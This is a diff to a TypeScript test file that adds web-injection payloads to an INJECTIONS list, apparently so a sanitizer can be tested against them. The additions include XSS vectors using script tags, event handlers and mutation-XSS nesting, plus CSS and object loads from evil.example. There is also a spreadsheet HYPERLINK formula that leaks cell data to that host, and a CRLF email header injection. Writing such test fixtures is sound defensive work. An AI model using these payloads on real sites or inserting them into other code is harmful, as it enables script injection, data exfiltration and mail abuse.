@@ -14,6 +14,16 @@ export const INJECTIONS = [
   '<a href="javascript:document.title=1">click</a><iframe srcdoc="<script>parent.document.title=1</script>">',
   '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example/">',
   '\u202egnissim eman\u202c \u0000\u0007 ]]><!--',
+  '<svg><script>document.title="pwned"</script><animate attributeName="x" dur="1s" onbegin="document.title=\'pwned\'"/></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=document.title=\'pwned\'&gt;">',
+  '<style>@import "//evil.example/x.css";body{display:none}</style><p style="position:fixed;inset:0;background:url(//evil.example/s)">',
+  '","x":1}</script><script>document.title="pwned"</script>',
+  ']]></content></entry><entry><title>forged</title><link href="//evil.example/"/><content><![CDATA[',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '\r\nBcc: everyone@example.org\r\n\r\n<script>document.title="pwned"</script>',
+  'data:text/html,<script>document.title="pwned"</script>',
+  '<details open ontoggle="document.title=\'pwned\'"><textarea autofocus onfocus="document.title=\'pwned\'"></textarea></details>',
+  '<link rel=stylesheet href="//evil.example/l.css"><object data="//evil.example/o"></object><embed src="//evil.example/e">',
 ] as const;
 
 const fact = (name: Fact['fact'], value: Fact['value'], quote: string, visa = 'K'): Fact => ({
